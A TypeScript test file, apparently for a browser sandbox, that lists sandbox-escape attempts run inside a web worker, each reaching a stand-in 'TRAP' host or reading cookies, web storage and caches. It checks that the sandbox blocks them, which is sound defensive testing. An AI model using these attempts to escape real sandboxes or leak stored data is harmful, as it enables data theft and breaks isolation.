/**
 * What a program tries in order to get out: each is the body of an async function in the worker, whose value says how far it came.
 * TRAP is the address of a server that must not hear of it; one that has no answer in time is `no answer`.
 */
export const attacks: Readonly<Record<string, string>> = {
  fetch: `return (await fetch('http://TRAP/fetch')).status`,
  'fetch without CORS': `return (await fetch('http://TRAP/no-cors', { mode: 'no-cors' })).type`,
  'fetch that outlives': `return (await fetch('http://TRAP/keepalive', { method: 'POST', body: 'x', keepalive: true })).status`,
  'fetch of the page': `return (await fetch(PAGE)).status`,
  'fetch of data': `return (await fetch('data:text/plain,x')).status`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'http://TRAP/xhr', false); x.send(); return x.status`,
  beacon: `return navigator.sendBeacon('http://TRAP/beacon', 'x')`,
  WebSocket: `const w = new WebSocket('ws://TRAP/ws'); return new Promise((d, f) => { w.onopen = () => d('open'); w.onerror = () => f(Error('error')) })`,
  WebSocketStream: `return (await new WebSocketStream('ws://TRAP/wss').opened).protocol`,
  EventSource: `const e = new EventSource('http://TRAP/es'); return new Promise((d, f) => { e.onopen = () => d('open'); e.onerror = () => f(Error('error')) })`,
  WebTransport: `const t = new WebTransport('https://TRAP/wt'); await t.ready; return 'open'`,
  RTCPeerConnection: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:TRAP' }] }); p.createDataChannel('x'); await p.setLocalDescription(); return 'open'`,
  'import of http': `return typeof (await import('http://TRAP/import.js'))`,
  'import of data': `return typeof (await import('data:text/javascript,export default 1'))`,
  importScripts: `importScripts('http://TRAP/import-scripts.js'); return 'ran'`,
  eval: `return (0, eval)('1 + 1')`,
  'new Function': `return new Function('return 2')()`,
  'a timer of text': `setTimeout("postMessage({ t: 'out', fd: 1, s: 'ran' })", 0); return new Promise(() => {})`,
  'a worker of http': `const w = new Worker('http://TRAP/worker.js'); return new Promise((d, f) => { w.onmessage = () => d('ran'); w.onerror = () => f(Error('error')) })`,
  'a worker of data': nested(`new Worker('data:text/javascript,' + encodeURIComponent(code))`),
  'a worker that fetches': nested(`new Worker(URL.createObjectURL(new Blob([code])))`),
  'a module worker that fetches': nested(
    `new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), { type: 'module' })`,
  ),
  'a shared worker': `const w = new SharedWorker('http://TRAP/shared.js'); return typeof w.port`,
  'a service worker': `return typeof (await navigator.serviceWorker.register('http://TRAP/sw.js'))`,
  'a font': `await new FontFace('x', 'url(http://TRAP/font)').load(); return 'loaded'`,
  'an image': `return typeof (await createImageBitmap(await (await fetch('http://TRAP/image')).blob()))`,
  document: `return typeof document.title`,
  parent: `return typeof parent.location`,
  top: `top.location = 'http://TRAP/top'; return 'gone'`,
  popup: `return typeof open('http://TRAP/popup')`,
  opener: `return typeof opener.location`,
  navigation: `location.href = 'http://TRAP/location'; return location.protocol === 'blob:' ? Promise.reject(Error('stayed')) : 'gone'`,
  clients: `return typeof (await clients.openWindow('http://TRAP/clients'))`,
  localStorage: `return localStorage.getItem('secret')`,
  sessionStorage: `return sessionStorage.getItem('secret')`,
  cookie: `return (await cookieStore.getAll()).length`,
  indexedDB: `return new Promise((d, f) => { const r = indexedDB.open('secret'); r.onsuccess = () => d('open'); r.onerror = () => f(r.error) })`,
  // WebKit gives an opaque origin caches of its own, which are empty: the page's must not be among them.
  caches: `return (await caches.has('secret')) ? 'seen' : Promise.reject(Error('not there'))`,
  'the private file system': `return typeof (await navigator.storage.getDirectory())`,
  locks: `return typeof (await navigator.locks.query())`,
  SharedArrayBuffer: `return new SharedArrayBuffer(8).byteLength`,
  'the referrer': `return document.referrer`,
  notifications: `new Notification('x'); return Notification.permission === 'granted' ? 'shown' : Promise.reject(Error('denied'))`,
  'a broadcast': `const b = new BroadcastChannel('site'); b.postMessage('attack'); return new Promise((d) => { b.onmessage = ({ data }) => d(data) })`,
};

/** Attacks that no worker has the means for, in a sandbox or not; they are tried for the day when one has. */
export const hopeless: ReadonlySet<string> = new Set([
  'beacon',
  'a shared worker',
  'a worker of http',
  'a service worker',
  'RTCPeerConnection',
  'WebTransport',
  'document',
  'parent',
  'top',
  'popup',
  'opener',
  'navigation',
  'clients',
  'localStorage',
  'sessionStorage',
  'cookie',
  'SharedArrayBuffer',
  'the referrer',
  'notifications',
]);

/** A worker of the worker, which tries to fetch. */
function nested(make: string): string {
  return `
    const code = "fetch('http://TRAP/nested').then((r) => postMessage(r.status), (e) => postMessage('blocked'))";
    const w = ${make};
    const said = await new Promise((d, f) => { w.onmessage = ({ data }) => d(data); w.onerror = () => f(Error('error')) });
    if (said === 'blocked') throw new Error('blocked');
    return said;`;
}

/** An attack → the text of a worker that tries it, and prints `out: VALUE` or `blocked`. */
export function renderAttack(body: string, trap: string, page: string): string {
  const attack = body.replaceAll('TRAP', trap).replaceAll('PAGE', JSON.stringify(page));
  return `
    const post = self.postMessage;
    post({ t: 'started' });
    const say = (s) => { post({ t: 'out', fd: 1, s }); post({ t: 'exit', code: 0 }); };
    setTimeout(() => say('no answer'), 700);
    (async () => { ${attack} })().then((value) => say('out: ' + value), () => say('blocked'));`;
}
